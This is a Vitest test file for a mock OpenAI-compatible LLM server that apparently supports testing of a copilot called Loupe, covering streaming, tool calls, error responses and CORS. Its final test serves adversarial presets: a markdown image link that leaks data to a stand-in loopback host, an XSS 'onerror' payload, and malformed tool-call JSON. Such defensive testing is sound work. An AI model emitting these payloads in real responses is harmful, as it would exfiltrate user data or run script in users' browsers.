import OpenAI from 'openai';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
// @ts-expect-error plain .mjs fixture without type declarations
import { ADVERSARIAL, ERRORS, startLlmServer } from '../../fixtures/llm-server.mjs';

// The fixture server is what every copilot test trusts to behave like the real API, so it is tested
// with the real client: if the `openai` SDK parses it, Loupe's provider sees the real wire protocol.

interface Srv {
  url: string;
  origin: string;
  requests: { method: string; path: string; headers: Record<string, string>; body: any }[];
  chats: { body: any }[];
  setScript(s: object[]): void;
  close(): Promise<void>;
}

let srv: Srv;
let client: OpenAI;
const user = (content: string) => [{ role: 'user' as const, content }];

beforeAll(async () => {
  srv = await startLlmServer({ apiKey: 'sk-test-123456789' });
  client = new OpenAI({ apiKey: 'sk-test-123456789', baseURL: srv.url, maxRetries: 0 });
});
afterAll(() => srv.close());
beforeEach(() => { srv.requests.length = 0; });

describe('llm-server', () => {
  it('lists models and only listens on loopback', async () => {
    const page = await client.models.list();
    expect(page.data.map((m) => m.id)).toContain('gpt-4o-mini');
    expect(srv.url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/v1$/);
    await expect(startLlmServer({ host: '0.0.0.0' })).rejects.toThrow(/loopback/);
  });

  it('answers a non-streamed request in the chat.completion shape', async () => {
    srv.setScript([{ text: 'Activation fell 15.3% [E6].' }]);
    const r = await client.chat.completions.create({ model: 'gpt-4o-mini', messages: user('hi') });
    expect(r.object).toBe('chat.completion');
    expect(r.id).toMatch(/^chatcmpl-/);
    expect(r.model).toBe('gpt-4o-mini');
    expect(r.choices[0].message.content).toBe('Activation fell 15.3% [E6].');
    expect(r.choices[0].finish_reason).toBe('stop');
    expect(r.usage?.total_tokens).toBeGreaterThan(0);
  });

  it('streams text chunks, split tool calls, finish_reason, usage, then [DONE]', async () => {
    srv.setScript([{ text: ['Let ', 'me ', 'check.'], toolCalls: [{ id: 'call_1', name: 'get_series', arguments: { chartId: 'activation', from: '2026-10-01' } }] }]);
    const stream = await client.chat.completions.create({
      model: 'gpt-4o-mini', messages: user('hi'), stream: true, stream_options: { include_usage: true },
    });
    const chunks = [];
    for await (const c of stream) chunks.push(c);
    expect(new Set(chunks.map((c) => c.id)).size).toBe(1);
    expect(chunks.every((c) => c.object === 'chat.completion.chunk' && c.model === 'gpt-4o-mini' && typeof c.created === 'number')).toBe(true);
    expect(chunks.map((c) => c.choices[0]?.delta?.content ?? '').join('')).toBe('Let me check.');
    const frags = chunks.flatMap((c) => c.choices[0]?.delta?.tool_calls ?? []);
    expect(frags.length).toBeGreaterThan(2); // name first, then argument fragments
    expect(frags[0]).toMatchObject({ index: 0, id: 'call_1', function: { name: 'get_series' } });
    const args = frags.map((f) => f.function?.arguments ?? '').join('');
    expect(JSON.parse(args)).toEqual({ chartId: 'activation', from: '2026-10-01' });
    expect(chunks.at(-2)?.choices[0].finish_reason).toBe('tool_calls');
    expect(chunks.at(-1)?.choices).toEqual([]);
    expect(chunks.at(-1)?.usage?.completion_tokens).toBeGreaterThan(0);
  });

  it('picks turns by last user message, turn index and tool results, and records every request', async () => {
    srv.setScript([
      { match: { afterTool: true }, text: 'after tool' },
      { match: { user: 'SIGNUPS' }, text: 'about signups', times: 'always' },
      { match: { turn: 1 }, text: 'second request' },
      { text: 'anything' },
    ]);
    const ask = async (messages: OpenAI.ChatCompletionMessageParam[]) =>
      (await client.chat.completions.create({ model: 'llama3.1', messages })).choices[0].message.content;
    expect(await ask(user('and the signups?'))).toBe('about signups');
    expect(await ask(user('hello'))).toBe('second request');
    expect(await ask([...user('x'), { role: 'assistant', content: null, tool_calls: [{ id: 'c', type: 'function', function: { name: 'f', arguments: '{}' } }] },
      { role: 'tool', tool_call_id: 'c', content: '{}' }])).toBe('after tool');
    expect(await ask(user('hello'))).toBe('anything');
    expect(await ask(user('Signups again'))).toBe('about signups');
    await expect(ask(user('hello'))).rejects.toMatchObject({ status: 500 }); // script used up
    const chats = srv.requests.filter((r) => r.path === '/v1/chat/completions');
    expect(chats).toHaveLength(6);
    expect(chats[0]).toMatchObject({ method: 'POST', headers: { authorization: 'Bearer sk-test-123456789' }, body: { model: 'llama3.1' } });
  });

  it('fails like the real API: 401, 404, 429 with Retry-After, 500, 503', async () => {
    const bad = new OpenAI({ apiKey: 'sk-wrong', baseURL: srv.url, maxRetries: 0 });
    await expect(bad.chat.completions.create({ model: 'gpt-4o-mini', messages: user('x') }))
      .rejects.toMatchObject({ status: 401, code: 'invalid_api_key' });
    await expect(client.chat.completions.create({ model: 'gpt-9', messages: user('x') }))
      .rejects.toMatchObject({ status: 404, code: 'model_not_found' });
    srv.setScript([ERRORS.rateLimit(3), ERRORS.server(), ERRORS.unavailable()]);
    const e429 = await client.chat.completions.create({ model: 'gpt-4o-mini', messages: user('x') }).catch((e) => e);
    expect(e429).toBeInstanceOf(OpenAI.RateLimitError);
    expect(e429.headers.get('retry-after')).toBe('3');
    expect(e429.error).toMatchObject({ type: 'requests', code: 'rate_limit_exceeded' });
    await expect(client.chat.completions.create({ model: 'gpt-4o-mini', messages: user('x') })).rejects.toMatchObject({ status: 500 });
    await expect(client.chat.completions.create({ model: 'gpt-4o-mini', messages: user('x'), stream: true })).rejects.toMatchObject({ status: 503 });
  });

  it('waits before the first byte and cuts a stream mid-answer', async () => {
    srv.setScript([{ delayMs: 150, text: 'late' }, { text: 'one two three four five', cutAfter: 2 }]);
    const t0 = Date.now();
    await client.chat.completions.create({ model: 'gpt-4o-mini', messages: user('x') });
    expect(Date.now() - t0).toBeGreaterThanOrEqual(140);
    const stream = await client.chat.completions.create({ model: 'gpt-4o-mini', messages: user('x'), stream: true });
    let text = '';
    const err = await (async () => { for await (const c of stream) text += c.choices[0]?.delta?.content ?? ''; })().catch((e) => e);
    expect(err).toBeInstanceOf(Error);
    expect(text).toBe('one two ');
  });

  it('sends CORS headers on every response and answers preflight', async () => {
    const pre = await fetch(`${srv.url}/chat/completions`, { method: 'OPTIONS', headers: { origin: 'chrome-extension://abc', 'access-control-request-method': 'POST' } });
    expect(pre.status).toBe(204);
    expect(pre.headers.get('access-control-allow-origin')).toBe('*');
    expect(pre.headers.get('access-control-allow-headers')).toBe('*');
    const denied = await fetch(`${srv.url}/models`);
    expect(denied.status).toBe(401);
    expect(denied.headers.get('access-control-allow-origin')).toBe('*');
  });

  it('serves the adversarial presets verbatim', async () => {
    srv.setScript([ADVERSARIAL.exfilImage, ADVERSARIAL.rawHtml, ADVERSARIAL.toolArgsNotJson]);
    const ask = async () => (await client.chat.completions.create({ model: 'gpt-4o-mini', messages: user('x') })).choices[0].message;
    expect((await ask()).content).toContain('![x](http://127.0.0.2:9/leak?d=');
    expect((await ask()).content).toContain('<img src=x onerror=alert(1)>');
    const m = await ask();
    expect(m.tool_calls?.[0]).toMatchObject({ function: { name: 'get_series', arguments: '{"chartId": "activation", series: oops' } });
  });
});
